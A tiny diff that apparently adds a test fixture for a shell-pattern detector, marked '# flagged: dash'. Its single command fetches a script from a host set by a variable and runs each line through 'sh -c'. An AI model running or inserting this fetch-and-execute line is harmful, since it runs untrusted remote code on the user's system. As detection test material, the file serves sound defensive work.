@@ -1,0 +1,2 @@
+# flagged: dash
+curl -s "$RG_HTTP/hello.sh" | xargs -I{} sh -c {}
